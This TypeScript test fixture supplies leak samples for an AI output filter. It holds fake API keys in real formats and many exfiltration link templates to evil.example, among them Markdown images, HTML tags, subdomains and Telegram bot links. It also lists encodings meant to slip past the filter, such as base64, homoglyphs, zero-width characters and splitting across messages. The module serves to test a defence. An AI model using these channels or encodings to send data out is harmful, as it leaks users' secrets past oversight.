// What a filter of leaks has to stop: keys, links that carry something out, and a machine's own words, each in sentences.
// Beside it, ways past the filter that it does not promise to see.
import type { OwnIdentity } from "../src/domain/exit-filter/own-identity.ts";
import { identityLeaks, machineRules, type Planted } from "./exit-machines.ts";

const letters = "abcdefghijkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789";
export const opaqueText = (length: number, seed: number): string =>
  Array.from({ length }, (_, at) =>
    letters.charAt((at * 31 + seed * 17 + at * at) % letters.length),
  ).join("");

/** Keys by their form, whoever's they are. */
const issued: readonly string[] = [
  `adyton_${opaqueText(43, 1)}`,
  `7123456789:${opaqueText(35, 2)}`,
  `sk-proj-${opaqueText(48, 3)}`,
  `ghp_${opaqueText(36, 4)}`,
  `github_pat_${opaqueText(40, 12)}`,
  `glpat-${opaqueText(20, 13)}`,
  `hf_${opaqueText(34, 14)}`,
  `xoxb-${opaqueText(40, 15)}`,
  `AIza${opaqueText(35, 16)}`,
  "AKIAQ3ZT7YVN5WPLR2KD",
  `AGE-SECRET-KEY-1${opaqueText(58, 17).toUpperCase()}`,
  `eyJ${opaqueText(33, 5)}.eyJ${opaqueText(60, 6)}.${opaqueText(43, 7)}`,
  `-----BEGIN PRIVATE KEY-----\n${opaqueText(64, 8)}\n${opaqueText(64, 9)}\n-----END PRIVATE KEY-----`,
];

/** Ways in which a link carries out what a model was made to put into it, by class. */
export const linkClasses: Readonly<Record<string, (load: string) => string>> = {
  "a Markdown image": (load) => `![chart](https://evil.example/p.png?d=${load})`,
  "a Markdown image without a query": (load) => `![](https://evil.example/${load}/p.png)`,
  "a Markdown link": (load) => `[read more](https://evil.example/r?to=${load})`,
  "a reference": (load) => `See [the source][1].\n\n[1]: https://evil.example/s?d=${load}`,
  "an image by reference": (load) => `![logo][x]\n\n[x]: <https://evil.example/l?d=${load}> "Logo"`,
  "an HTML image": (load) => `<img src="https://evil.example/i?d=${load}" width="1" height="1">`,
  "an HTML link": (load) => `<a href='http://evil.example/a?d=${load}'>here</a>`,
  "an autolink": (load) => `<https://evil.example/a?d=${load}>`,
  "a bare address": (load) => `https://evil.example/collect?d=${load}`,
  "a bare host": (load) => `evil.example/collect?d=${load}`,
  "a fragment": (load) => `http://files.example/x#${load}`,
  "a path": (load) => `https://evil.example/${load}`,
  "a subdomain": (load) => `https://${load.slice(0, 60).toLowerCase()}.evil.example/`,
  punycode: (load) => `https://xn--80ak6aa92e.example/?d=${load}`,
  "a Russian host": (load) => `https://пример.рф/?д=${load}`,
  "a port and a name": (load) => `https://name:${load.slice(0, 20)}@evil.example:8443/x`,
  "a messenger's link": (load) => `tg://resolve?domain=evilbot&start=${load.slice(0, 12)}`,
  "a messenger's link without slashes": (load) => `tg:msg_url?url=${load.slice(0, 12)}`,
  "a bot's start": (load) => `https://t.me/evilbot?start=${load.slice(0, 60)}`,
  "a letter": (load) => `mailto:me@evil.example?body=${load}`,
  "a socket": (load) => `wss://evil.example/s?d=${load}`,
};

const loads = [opaqueText(64, 10), Buffer.from(opaqueText(44, 11)).toString("base64url")];

/** What is planted on a machine: its own words, everybody's keys, links, and a word that its owner hides. */
export const plantedLeaks = (machine: OwnIdentity): readonly Planted[] => [
  ...identityLeaks(machine),
  ...issued.map((leak): Planted => ({ kind: "secret", leak, core: leak })),
  ...Object.values(linkClasses).flatMap((link) =>
    loads.map((load): Planted => ({ kind: "link", leak: link(load), core: load.slice(0, 12) })),
  ),
  ...machineRules.hide.map((leak): Planted => ({ kind: "word", leak, core: leak })),
];

/** Sentences in which something is given away. What is lines of its own stands on lines of its own. */
const leakFrames: readonly ((leak: string) => string)[] = [
  (leak) => `Here is what I found:\n${leak}\nTell me if you need more.`,
  (leak) => `Вот что я нашёл:\n${leak}\nСкажите, если нужно ещё.`,
  (leak) => `The answer is ${leak}, as far as I can see.`,
  (leak) => `Насколько я вижу, это «${leak}», и больше ничего.`,
  (leak) => `\`\`\`json\n{"value": "${leak}"}\n\`\`\``,
  (leak) => `- первое: **да**\n- второе: ${leak}.`,
];

export interface LeakyAnswer extends Planted {
  readonly text: string;
  /** The sentence without it. */
  readonly around: string;
}

/** Every leak of a machine in every frame that suits it. */
export function leakyAnswers(machine: OwnIdentity): readonly LeakyAnswer[] {
  return plantedLeaks(machine).flatMap((each) =>
    leakFrames
      .slice(0, each.leak.includes("\n") || each.kind === "trace" ? 2 : leakFrames.length)
      .map((frame) => ({ ...each, text: frame(each.leak), around: frame("") })),
  );
}

const leet = new Map(Array.from("aeiost", (letter, at) => [letter, "431057".charAt(at)]));
const lookAlikes = new Map(Array.from("aceopxy", (letter, at) => [letter, "асеорху".charAt(at)]));

/** Ways to carry a leak past the filter, each in the messages it takes. */
export const transformations: Readonly<Record<string, (leak: string) => readonly string[]>> = {
  base64: (leak) => [Buffer.from(leak).toString("base64")],
  hex: (leak) => [Buffer.from(leak).toString("hex")],
  spaced: (leak) => [Array.from(leak).join(" ")],
  reversed: (leak) => [Array.from(leak).toReversed().join("")],
  "percent-encoded": (leak) => [
    [...Buffer.from(leak)].map((byte) => `%${byte.toString(16).padStart(2, "0")}`).join(""),
  ],
  "look-alikes": (leak) => [
    leak.replaceAll(/[aceopxy]/gu, (letter) => lookAlikes.get(letter) ?? ""),
  ],
  "zero width": (leak) => [Array.from(leak).join("\u200B")],
  "full width": (leak) => [
    leak.replaceAll(/[!-~]/gu, (unit) =>
      String.fromCodePoint((unit.codePointAt(0) ?? 0) + 0xfe_e0),
    ),
  ],
  leetspeak: (leak) => [leak.replaceAll(/[aeiost]/giu, (one) => leet.get(one.toLowerCase()) ?? "")],
  "in words": (leak) => [
    leak.replaceAll(".", " dot ").replaceAll(":", " colon ").replaceAll("/", " slash "),
  ],
  "split over two messages": (leak) => {
    const half = Math.ceil(leak.length / 2);
    return [leak.slice(0, half), leak.slice(half)];
  },
};

/** Whether what is shown of an answer still tells a leak, or a word of it; words of the sentence around it count for nothing. */
export function tells(
  shown: string,
  { core, around }: Pick<LeakyAnswer, "core" | "around">,
): boolean {
  const visible = shown.toLowerCase().replaceAll(/\[[\p{L} ]+ (?:removed|убран\p{L}?)\]/gu, "");
  const words = core.toLowerCase().match(/[\p{L}\p{N}]{4,}/gu) ?? [];
  const own = words.filter((word) => !around.toLowerCase().includes(word));
  return visible.includes(core.toLowerCase()) || own.some((word) => visible.includes(word));
}

/** What some pattern of the filter begins with: repeated, it begins again and again and never ends. */
export const endlessBeginnings: readonly string[] = [
  "a",
  "1.",
  "1:",
  "eyJ",
  "sk-",
  "/home/",
  " at ",
  "annik",
  'File "',
  "x\n    at ",
  "a.",
  "https://",
  "mailto:a@",
  "-----BEGIN ",
  "1234567890:",
  "RTX ",
  "[.]",
  "a-",
  "eyJa.eyJa.",
  "-----BEGIN PRIVATE KEY-----",
  "а\u0301",
];
